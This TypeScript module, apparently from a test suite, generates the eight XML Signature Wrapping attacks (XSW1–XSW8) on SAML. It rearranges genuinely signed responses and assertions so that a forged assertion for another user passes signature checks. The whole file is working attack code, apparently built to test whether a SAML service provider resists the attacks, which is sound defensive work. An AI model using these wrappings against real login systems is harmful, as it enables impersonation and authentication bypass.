import {
  assertionFor,
  responseFor,
  signed,
  type Said,
  type SamlKey,
  type SamlRequest,
} from './saml-provider.js';

/** One of the forms of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012). */
export interface Wrapping {
  readonly name: string;
  readonly xml: (request: SamlRequest, key: SamlKey, evil: Partial<Said>) => string;
}

const SIGNATURE = /<ds:Signature.*<\/ds:Signature>|<Signature.*<\/Signature>/s;

interface Parts {
  /** Truly signed, with its signature. */
  readonly whole: string;
  /** The same without its signature. */
  readonly bare: string;
  readonly signature: string;
}

function partsOf(whole: string): Parts {
  const [signature = ''] = SIGNATURE.exec(whole) ?? [];
  return { whole, bare: whole.replace(signature, ''), signature };
}

const ofResponse = (request: SamlRequest, key: SamlKey): Parts =>
  partsOf(signed(responseFor(request, assertionFor(request)), 'Response', key));

const ofAssertion = (request: SamlRequest, key: SamlKey): Parts =>
  partsOf(signed(assertionFor(request), 'Assertion', key));

/** Before the element's end. */
const within = (xml: string, more: string): string => xml.replace(/<\/[\w:]+>$/, `${more}$&`);
/** After its issuer, where a signature is looked for. */
const afterIssuer = (xml: string, more: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
/** With an object, or what is signed, in the signature. */
const withObject = ({ signature }: Parts, inner: string): string =>
  within(
    signature,
    `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>`,
  );
const extensions = (inner: string): string => `<samlp:Extensions>${inner}</samlp:Extensions>`;

/** The attack: nodes of a truly signed response are moved, and an assertion of somebody else is put where it is read. */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed response lies in the signature of a forged one',
    xml: (request, key, evil) => {
      const parts = ofResponse(request, key);
      const forged = responseFor(request, assertionFor(request, evil));
      return afterIssuer(forged, withObject(parts, parts.bare));
    },
  },
  {
    name: 'XSW2: the signed response lies beside its signature in a forged one',
    xml: (request, key, evil) => {
      const { bare, signature } = ofResponse(request, key);
      const forged = responseFor(request, assertionFor(request, evil));
      return afterIssuer(forged, `${bare}${signature}`);
    },
  },
  {
    name: 'XSW3: a forged assertion comes before the signed one',
    xml: (request, key, evil) =>
      responseFor(request, assertionFor(request, evil) + ofAssertion(request, key).whole),
  },
  {
    name: 'XSW4: the signed assertion lies in a forged one',
    xml: (request, key, evil) =>
      responseFor(request, within(assertionFor(request, evil), ofAssertion(request, key).whole)),
  },
  {
    name: 'XSW5: a forged assertion has the signature, the signed one follows without it',
    xml: (request, key, evil) => {
      const { bare, signature } = ofAssertion(request, key);
      return responseFor(request, afterIssuer(assertionFor(request, evil), signature) + bare);
    },
  },
  {
    name: 'XSW6: a forged assertion has the signature, which holds the signed one',
    xml: (request, key, evil) => {
      const { bare, signature } = ofAssertion(request, key);
      const around = within(signature, bare);
      return responseFor(request, afterIssuer(assertionFor(request, evil), around));
    },
  },
  {
    name: 'XSW7: the signed assertion lies in extensions before a forged one',
    xml: (request, key, evil) =>
      responseFor(
        request,
        extensions(ofAssertion(request, key).whole) + assertionFor(request, evil),
      ),
  },
  {
    name: 'XSW8: the signed assertion lies in an object of the signature of a forged one',
    xml: (request, key, evil) => {
      const parts = ofAssertion(request, key);
      const around = withObject(parts, parts.bare);
      return responseFor(request, afterIssuer(assertionFor(request, evil), around));
    },
  },
];
